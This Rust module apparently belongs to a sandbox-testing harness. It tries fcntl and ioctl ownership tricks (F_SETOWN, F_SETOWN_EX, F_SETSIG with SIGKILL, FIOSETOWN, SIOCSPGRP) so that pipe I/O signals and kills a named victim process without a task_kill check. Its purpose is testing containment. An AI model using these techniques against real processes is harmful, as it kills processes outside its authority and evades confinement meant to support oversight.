//! Signals by file ownership: a file's owner gets its I/O signals (`SIGIO`, or whatever
//! `F_SETSIG` names) without the kernel asking `task_kill`. Each step tries one way of pointing
//! them at another process; if any works, I/O on the pipe sends the victim `SIGIO`, whose
//! default action ends it.

use std::io;

use crate::{check, step, Outcome};

// From the kernel's uapi headers (not all in the libc crate).
const F_SETSIG: libc::c_int = 10;
const F_SETOWN_EX: libc::c_int = 15;
const F_OWNER_PID: libc::c_int = 1;
const FIOSETOWN: libc::c_ulong = 0x8901;
const SIOCSPGRP: libc::c_ulong = 0x8902;
const FIOASYNC: libc::c_ulong = 0x5452;

/// `struct f_owner_ex`.
#[repr(C)]
struct OwnerEx {
    kind: libc::c_int,
    pid: libc::pid_t,
}

/// Runs `technique` if it belongs to this family.
pub(crate) fn run(technique: &str, args: &[String]) -> Option<Outcome> {
    let outcome = match (technique, args) {
        ("sigio-owner", [pid]) => match pid.parse::<libc::pid_t>() {
            Ok(pid) => sigio_owner(pid),
            Err(_) => Outcome::Usage(format!("bad pid {pid:?}")),
        },
        ("sigio-owner", _) => Outcome::Usage("wants PID".into()),
        _ => return None,
    };
    Some(outcome)
}

fn fcntl(fd: libc::c_int, cmd: libc::c_int, arg: libc::c_long) -> io::Result<libc::c_long> {
    // SAFETY: fcntl with an integer argument on a descriptor we own.
    check(unsafe { libc::fcntl(fd, cmd, arg) }.into())
}

fn ioctl_int(fd: libc::c_int, cmd: libc::c_ulong, value: libc::c_int) -> io::Result<libc::c_long> {
    // SAFETY: the command reads one int from the pointer, which outlives the call.
    check(unsafe { libc::ioctl(fd, cmd, &raw const value) }.into())
}

fn sigio_owner(victim: libc::pid_t) -> Outcome {
    let mut fds = [0; 2];
    // SAFETY: pipe writes two descriptors into the array.
    if unsafe { libc::pipe(fds.as_mut_ptr()) } != 0 {
        return Outcome::Setup(format!("pipe: {}", io::Error::last_os_error()));
    }
    // SAFETY: a plain system call.
    let sock = unsafe { libc::socket(libc::AF_UNIX, libc::SOCK_STREAM, 0) };
    if sock < 0 {
        return Outcome::Setup(format!("socket: {}", io::Error::last_os_error()));
    }
    let [read_end, write_end] = fds;
    // SAFETY: a plain system call.
    let me = unsafe { libc::getpid() };
    // Controls: the agent's own process, and nobody, may be named.
    step("f_setown-self", &fcntl(read_end, libc::F_SETOWN, me.into()));
    step("f_setown-none", &fcntl(read_end, libc::F_SETOWN, 0));
    // The attacks.
    step(
        "f_setown-pgrp",
        &fcntl(read_end, libc::F_SETOWN, (-victim).into()),
    );
    let owner = OwnerEx {
        kind: F_OWNER_PID,
        pid: victim,
    };
    // SAFETY: F_SETOWN_EX reads the struct, which outlives the call.
    let ex = check(unsafe { libc::fcntl(read_end, F_SETOWN_EX, &raw const owner) }.into());
    step("f_setown_ex", &ex);
    step("f_setsig", &fcntl(read_end, F_SETSIG, libc::SIGKILL.into()));
    // Last of the owners, so that it is the one in place if it went through.
    step("f_setown", &fcntl(read_end, libc::F_SETOWN, victim.into()));
    step(
        "f_setfl-async",
        &fcntl(read_end, libc::F_SETFL, libc::O_ASYNC.into()),
    );
    step("fioasync", &ioctl_int(read_end, FIOASYNC, 1));
    step("fiosetown", &ioctl_int(sock, FIOSETOWN, victim));
    step("siocspgrp", &ioctl_int(sock, SIOCSPGRP, victim));
    // I/O on the pipe: a SIGIO to whoever owns it, if anything above went through.
    // SAFETY: writing one byte from a static buffer to our pipe.
    let written = unsafe { libc::write(write_end, b"x".as_ptr().cast(), 1) };
    step("write", &check(written as libc::c_long));
    // SAFETY: closing our own descriptors.
    unsafe {
        libc::close(read_end);
        libc::close(write_end);
        libc::close(sock);
    }
    Outcome::Done
}
